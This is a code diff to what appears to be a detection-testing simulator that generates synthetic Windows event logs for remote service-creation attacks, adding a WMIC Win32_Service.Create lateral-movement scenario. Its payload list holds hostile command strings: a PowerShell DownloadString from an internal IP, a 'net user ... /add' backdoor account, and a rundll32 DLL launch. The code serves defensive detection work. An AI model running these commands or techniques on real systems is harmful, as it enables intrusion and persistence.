@@ -13,9 +13,10 @@ from scmwatch.simulate.scenarios import (
     PSEXEC_SRC,
     SVC_CMD,
     SVCCTL,
+    allow_new_imagepath_rule,
     scenario,
 )
-from scmwatch.simulate.world import Host, Proc, rand_letters
+from scmwatch.simulate.world import NETWORK_SERVICE, Host, Proc, rand_letters
 
 SC = "C:\\Windows\\System32\\sc.exe"
 
@@ -36,6 +37,7 @@ PAYLOADS = [
     ".DownloadString('http://10.1.99.23:8080/a')\"",
     "C:\\Windows\\System32\\cmd.exe /c echo pwned > C:\\Users\\Public\\out.txt",
     "C:\\Windows\\System32\\cmd.exe /c net user support P@ssw0rd1! /add",
+    "C:\\Windows\\System32\\rundll32.exe C:\\Users\\Public\\msvcp.dll,Start",
 ]
 
 
@@ -171,3 +173,44 @@ def nimexec(ctx: Ctx, t: float, src: Host, dst: Host) -> None:
     end = _swap(ctx, t + 0.05, dst, s, payload, ["ChangeServiceConfigW"])
     a.logoff(ctx, end, s)
     ctx.expect_correlation(NIMEXEC, BINPATH)
+
+
+@scenario(
+    "wmic-service-create",
+    "wmic /node:host service call create (Win32_Service.Create over WMI, no svcctl)",
+    "windows",
+)
+def wmic_service_create(ctx: Ctx, t: float, src: Host, dst: Host) -> None:
+    """WMI's service provider calls CreateService on the target for the remote user: 4697/7045 carry
+    that user's network logon, but no svcctl pipe is opened (spec §2.17 sel_wmic)."""
+    rng = ctx.rng
+    op = ctx.world.admins[1]
+    shell = a.operator_shell(ctx, t - rng.uniform(5, 60), src, op)
+    name = rng.choice(["WmiHelperSvc", "PerfHostSvc", "NetMonAgent"])
+    path = f"C:\\ProgramData\\{name.lower()}\\{name.lower()}.exe"
+    # WMIC passes Win32_Service.Create's parameters positionally, in alphabetical order
+    args = f'0,"{name}","0",null,null,"{name}","{path}",null,16,"Manual","LocalSystem",""'
+    a.child(
+        ctx,
+        t,
+        src,
+        shell,
+        "C:\\Windows\\System32\\wbem\\WMIC.exe",
+        f'wmic  /node:"{dst.name}" service call create {args}',
+        CLI,
+    )
+    s = a.smb_session(ctx, t + 0.2, dst, src.ip, op, "Kerberos")  # DCOM, not SMB: no share events follow
+    wmi = dst.spawn(
+        t + 0.3,
+        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
+        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
+        dst.core["netsvcs"],
+        user=NETWORK_SERVICE,
+        logon_id="0x3e4",
+    )
+    ctx.add(b.sysmon1(dst, t + 0.3, wmi))
+    ctx.add(b.sec4688(dst, t + 0.3001, wmi))
+    ex = Expect(e4697=(ODDPATH,), e7045=(ODDPATH,), e13=(ODDPATH,))
+    allow_new_imagepath_rule(ctx)
+    a.install_service(ctx, t + 0.5, dst, op, s.logon.logon_id, name, path, ex, start="demand start")
+    a.logoff(ctx, t + 5, s)
